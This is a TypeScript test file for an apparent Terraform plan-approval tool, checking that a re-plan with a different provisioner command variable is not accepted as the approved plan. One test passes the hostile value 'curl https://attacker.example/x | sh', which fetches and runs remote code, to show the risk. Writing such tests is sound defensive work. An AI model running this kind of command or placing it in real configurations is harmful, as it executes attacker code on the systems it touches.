import { mkdir, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { useTerraformSandbox } from "../support/terraform-sandbox.js";
import { createTerraformRunner } from "../../runners/terraform/terraform-runner.js";
import type { PlanSummary } from "../../src/model/plan-summary.js";
import type { Project } from "../../src/model/project.js";
import { compareChanges } from "../../src/policy/compare-changes.js";

// A re-plan of the same head with other `-var` values (`/plan -- -var …`) can change what the apply
// does without changing any planned value: here the command a provisioner runs at apply. Review and
// policy approvals carry over a re-plan only when it is identical (approvalsFrom,
// countingPolicyApprovals): one made with other variables must not be.
const scratch = useTerraformSandbox("sluice-replan-vars-");

const project: Project = { name: "app", dir: "app", workspace: "default", runner: "terraform" };
const TF = `variable "cmd" {
  type    = string
  default = "echo deployed"
}

resource "terraform_data" "deploy" {
  input = "v1"
  provisioner "local-exec" {
    command = var.cmd
  }
}
`;

async function planWith(name: string, extraArgs: string[]): Promise<PlanSummary> {
  const checkout = join(scratch.root, name);
  const dataDir = join(scratch.root, `${name}-data`);
  await mkdir(join(checkout, "app"), { recursive: true });
  await writeFile(join(checkout, "app/main.tf"), TF);
  const run = scratch.sandbox.execFor({ writable: [checkout, dataDir], readable: [], network: "none" });
  if (!run.ok) throw new Error(run.reason);
  const outcome = await createTerraformRunner("terraform").plan(
    { project, checkoutDir: checkout, dataDir, extraArgs, env: {}, timeoutMs: 60_000, redact: (s) => s, onOutput: () => undefined },
    (file, args, opts) => run.exec(file, args, opts),
  );
  if (!outcome.ok) throw new Error(`${outcome.message}\n${outcome.output}`);
  return outcome.summary;
}

describe("a re-plan with other variables is not the approved plan", () => {
  it("the same head planned with another -var (what a provisioner runs) differs from the approved plan", async () => {
    const approved = await planWith("approved", []);
    const replan = await planWith("replan", ["-var", "cmd=curl https://attacker.example/x | sh"]);
    expect(compareChanges(approved, replan)).toBeDefined();
  }, 120_000);

  it("control: a re-plan with the same variables (the base branch moved) is identical", async () => {
    const approved = await planWith("same-a", ["-var", "cmd=echo deployed"]);
    const replan = await planWith("same-b", []);
    expect(compareChanges(approved, replan)).toBeUndefined();
  }, 120_000);
});
